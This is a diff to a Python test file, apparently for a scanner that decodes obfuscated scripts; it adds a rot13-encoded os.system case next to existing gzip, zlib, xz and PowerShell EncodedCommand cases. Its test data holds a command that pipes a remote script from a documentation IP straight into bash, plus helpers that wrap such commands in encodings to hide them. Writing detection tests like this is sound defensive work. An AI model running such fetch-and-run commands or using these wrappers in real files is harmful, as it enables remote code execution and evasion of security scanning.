@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import codecs
 import gzip
 import json
 import lzma
@@ -58,6 +59,11 @@ def _js_xz_base64() -> str:
 PS_PAYLOAD = PAYLOADS[0].replace("curl", "curl.exe")
 
 
+def _py_rot13_codec() -> str:
+    hidden = codecs.encode(PAYLOADS[3], "rot13")
+    return f"import codecs, os\nos.system(codecs.decode({hidden!r}, 'rot_13'))\n"
+
+
 def _ps_encoded_command() -> str:
     data = base64.b64encode(PS_PAYLOAD.encode("utf-16-le")).decode()
     return f"powershell -NoProfile -EncodedCommand {data}\n"
@@ -73,10 +79,11 @@ def _ps_encoded_command() -> str:
             "scripts/e.ps1",
             _ps_encoded_command(),
             "base64>utf-16",
-            "curl.exe -s http://203.0.113.5/p.sh | bash",
+            PS_PAYLOAD,
         ),
+        ("scripts/r.py", _py_rot13_codec(), "rot13", PAYLOADS[3]),
     ],
-    ids=["sh-gzip", "py-zlib", "js-xz", "ps1-encoded-command"],
+    ids=["sh-gzip", "py-zlib", "js-xz", "ps1-encoded-command", "py-rot-13-codec"],
 )
 def test_compressed_and_utf16_payloads_are_unpacked_and_caught(
     path: str, text: str, chain: str, payload: str
